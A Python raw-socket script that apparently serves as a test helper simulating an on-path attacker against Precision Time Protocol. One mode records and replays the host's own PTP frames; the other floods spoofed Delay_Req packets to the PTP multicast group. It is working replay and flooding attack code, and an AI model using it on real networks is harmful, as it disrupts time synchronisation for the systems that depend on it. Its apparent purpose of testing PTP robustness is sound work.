#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""What an attacker on the wire does, by a raw socket:

replay.py again IFACE SECONDS   records the PTP messages that this host sends, and sends them once more
replay.py flood IFACE SECONDS   sends Delay_Req, as fast as it can, from an address that nobody has"""

import socket
import struct
import sys
import time

PTP_PORTS = (319, 320)
IP = 14
UDP = IP + 20
OUTGOING = 4
"""PACKET_OUTGOING"""


def is_ptp(frame: bytes) -> bool:
    return frame[12:14] == b"\x08\x00" and frame[IP + 9] == 17 and struct.unpack_from(">H", frame, UDP + 2)[0] in PTP_PORTS


def record(wire: socket.socket, seconds: float) -> list[bytes]:
    frames, end = [], time.monotonic() + seconds
    wire.settimeout(0.5)
    while time.monotonic() < end:
        try:
            frame, address = wire.recvfrom(2048)
        except TimeoutError:
            continue
        if address[2] == OUTGOING and is_ptp(frame):
            frames.append(without_checksum(frame))
    return frames


def without_checksum(frame: bytes) -> bytes:
    """The NIC was to fill it in."""
    return frame[:UDP + 6] + b"\0\0" + frame[UDP + 8:]


def again(wire: socket.socket, seconds: float) -> int:
    frames = record(wire, seconds)
    for frame in frames:
        wire.send(frame)
        time.sleep(0.005)
    return len(frames)


def checksum(header: bytes) -> int:
    total = sum(struct.unpack(f">{len(header) // 2}H", header))
    total = (total & 0xffff) + (total >> 16)
    return ~(total + (total >> 16)) & 0xffff


def request(sequence: int) -> bytes:
    """A frame with a Delay_Req from 10.77.0.99."""
    ptp = struct.pack(">BBHBxHqi8sHHBb10x", 1, 2, 44, 0, 0, 0, 0, b"attacker", 1, sequence & 0xffff, 1, 0x7f)
    udp = struct.pack(">HHHH", 319, 319, 8 + len(ptp), 0)
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 28 + len(ptp), 0, 0, 1, 17, 0,
                     socket.inet_aton("10.77.0.99"), socket.inet_aton("224.0.1.129"))
    ip = ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:]
    return bytes.fromhex("01005e000181" "525400770063" "0800") + ip + udp + ptp


def flood(wire: socket.socket, seconds: float) -> int:
    count, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        wire.send(request(count))
        count += 1
    return count


def main() -> None:
    what, iface, seconds = sys.argv[1:]
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    wire.bind((iface, 0))
    print(f"sent={ {'again': again, 'flood': flood}[what](wire, float(seconds)) }")


if __name__ == "__main__":
    main()
